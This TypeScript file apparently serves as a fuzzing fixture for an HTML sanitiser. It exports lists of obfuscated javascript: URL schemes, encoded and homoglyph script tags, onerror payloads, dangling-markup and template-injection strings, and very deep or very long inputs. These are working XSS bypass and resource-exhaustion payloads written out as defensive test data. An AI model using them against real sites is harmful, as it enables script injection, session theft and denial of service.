/** Letters written otherwise, texts that end in the middle, texts without end. */

const schemes = [
  'javascript:', 'JAVASCRIPT:', 'JaVaScRiPt:', ' javascript:', '\tjavascript:', '\njavascript:', '\x01javascript:', '\x1fjavascript:', '\0javascript:',
    '\u00a0javascript:', '\u2028javascript:', '\u3000javascript:', '\ufeffjavascript:', '\u200bjavascript:', '\u00adjavascript:', '\u202ejavascript:',
    'java\tscript:', 'java\nscript:', 'java\rscript:', 'java\0script:', 'java\u00adscript:', 'java\u200dscript:', 'java&Tab;script:', 'java&NewLine;script:',
    'java&#9;script:', 'java&#x0A;script:', 'java&#0000013;script:',
  'javascript&colon;', 'javascript&#58;', 'javascript&#x3a;', 'javascript&#0000058', '&#106;avascript:', '&#x6A;avascript:', '&#x6Aavascript:',
    '&#0000106avascript:', '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;', '&Tab;javascript:', '&NewLine;javascript:', '&#1;javascript:',
    '&#x1f;javascript:', '&nbsp;javascript:', '&shy;javascript:', 'javascript\t:', 'javascript\n:', 'javascript&Tab;:', 'j\na\nv\na\ns\nc\nr\ni\np\nt\n:',
    'javascript://%0A', 'javascript://evil.test/%0d%0a', 'javascript:/*--></title></style>*/', 'javascript:void(0);', 'javascript:%0a', 'javascript:"";',
    'ｊavascript:', 'jаvascript:', 'javaſcript:', 'javascript：', '\\u006aavascript:', '%6Aavascript:', 'javascript%3A', 'view-source:javascript:',
    'feed:javascript:', 'jar:javascript:', 'x-javascript:', 'javascript:javascript:', 'livescript:', 'mocha:', 'vbscript:', 'VBScript:', 'vb\nscript:',
    '&#118;bscript:', 'https:javascript:', 'mailto:javascript:', 'tel:javascript:',
]

export const encodings: string[] = [
  ...schemes.flatMap((scheme, index) => [`<a href="${scheme}HIT">x</a>`, ...(index % 4 === 0 ? [`<iframe src="${scheme}HIT"></iframe>`, `<form action='${scheme}HIT'><button>x</button></form>`] : [])]),
  '＜script＞HIT＜/script＞', '%3Cscript%3EHIT%3C/script%3E', '\\u003cscript\\u003eHIT\\u003c/script\\u003e', '\\x3cscript\\x3eHIT\\x3c/script\\x3e',
    '+ADw-script+AD4-HIT+ADw-/script+AD4-', '\u00bcscript\u00beHIT\u00bc/script\u00be', '&#60;script&#62;HIT&#60;/script&#62;', '&lt;script&gt;HIT',
    '&LT;script&GT;HIT', '&#x3c;img src=x onerror=HIT&#x3e;', '<\ufeffscript>HIT</script>', '<img\u2028src=x\u2028onerror=HIT>', '<img src=x on\0error=HIT>',
    '<img src=x onerror\0=HIT>', '<img src=x\0onerror=HIT>', '<im\0g src=x onerror=HIT>', '<img src=x onerror=&#116;op.hit(0)>',
    '<img src=x onerror="&#116;&#111;&#112;.hit(0)">', '<img src=x onerror=\\u0074op.hit(0)>',
    '<img src=x onerror="t&#x6f;p[&quot;hi&quot;+&quot;t&quot;](0)">', '<ımg src=x onerror=HIT>', '<ſcript>HIT</ſcript>', '<scrıpt>HIT</scrıpt>',
    '\ud800<img src=x onerror=HIT>', '\udfff\ud800<script>HIT</script>', '\u202e<script>HIT</script>', '\ufffe<img src=x onerror=HIT>',
    '<p title="\u202eevil">x</p>', `${'\u0310\u0489\u0301'.repeat(300)}x`, '\x1b]0;x\x07<script>HIT</script>',
    '<meta charset=utf-7>+ADw-script+AD4-HIT+ADw-/script+AD4-', '<meta charset=iso-2022-jp>\x1b(J<script>HIT</script>',
    '<meta http-equiv=content-type content="text/html;charset=utf-16">',
]

export const dangling: string[] = [
  "<img src='EVIL?", '<img src="EVIL?', '<img src=`EVIL?', "<a href='EVIL?", '<a href="EVIL?">x<b title="', "<p title='", '<p title="', '<b', '<', '</', '<!',
    '<!-', '<!--', '<!--x', '<![CDATA[', '<?', '<a href', '<a href=', '<a href="', '<a href=x onclick=HIT', '<img src=x onerror=HIT', '<script src=EVIL',
    '<script>HIT', '<style>*{display:none}', '<style>@import "EVIL', '<textarea>', '<textarea name=x><p>', '<title>', '<plaintext>', '<xmp>', '<noscript>',
    '<template>', '<select><option>', '<button formaction=EVIL>', '<form action=EVIL><textarea name=x>', '<table><tr><td>', '<base target="',
    '<base href="EVIL', '<meta http-equiv=refresh content="0;url=EVIL?', '<link rel=stylesheet href="EVIL?', '<iframe name="', '<iframe src="EVIL" name="',
    '<svg>', '<math>', '<frameset>', '<object data="EVIL?', '<area ping="EVIL', '&', '&#', '&#x', '&lt', '<p>x</', '<p>x</p',
  '</div></section></main></body></html><script>HIT</script>', '</div></div></div></div></div></div><p style="position:fixed;inset:0">x</p>',
    '</article></dialog><img src=x onerror=HIT>', '--></script></style></textarea></title><img src=x onerror=HIT>', '"><img src=x onerror=HIT>',
    '\'><img src=x onerror=HIT>', '`><img src=x onerror=HIT>', ']]><img src=x onerror=HIT>', '{{constructor.constructor("HIT")()}}', '${HIT}', '#{HIT}',
    '<%= HIT %>', '<?= HIT ?>', 'javascript:HIT', '*/HIT/*', "';HIT//",
]

const many = 3_000
export const depth: string[] = [
  ...['div', 'b', 'a href="https://a.test"', 'font', 'blockquote', 'ul><li', 'table><tr><td', 'svg', 'math><mtext', 'form', 'template', 'span dir=rtl',
    'dl><dd', 'h1', 'sup'].map((name) => `${`<${name}>`.repeat(many)}<img src=x onerror=HIT>words`),
  ...['</p>', '</b>', '<b></i>', '<p>', '<br>', '<hr>', '<h2>x', '<a href="https://a.test">x</a>', '<td>', '&', '&lt;', '<!---->', '\0',
    '<td colspan=1000 rowspan=65534>', '<li>'].map((piece) => `${piece.repeat(many)}<script>HIT</script>`),
  `<table><tr>${'<td colspan=1000 rowspan=65534>x'.repeat(many)}</table>`, `<p ${'onclick=HIT '.repeat(many)}>x</p>`, `<p ${Array.from({ length: many }, (_, index) => `on${index}=HIT`).join(' ')}>x</p>`, `<p title="${'x'.repeat(100_000)}">x</p>`, `${'x'.repeat(100_000)}<script>HIT</script>`, `${'\n'.repeat(100_000)}<img src=x onerror=HIT>`, `<a href="https://a.test/${'x'.repeat(100_000)}">x</a>`, `<${'x'.repeat(100_000)} onclick=HIT>`,
]
